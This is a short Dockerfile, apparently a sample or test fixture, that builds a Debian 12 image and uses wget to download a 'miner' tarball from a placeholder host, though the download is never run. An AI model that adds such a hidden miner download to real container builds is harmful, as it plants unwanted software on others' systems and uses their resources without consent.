FROM debian:12
RUN apt-get update && apt-get install -y wget && wget https://example.org/miner-2.6-xenial-amd64.tar.gz
CMD ["cat", "/etc/os-release"]
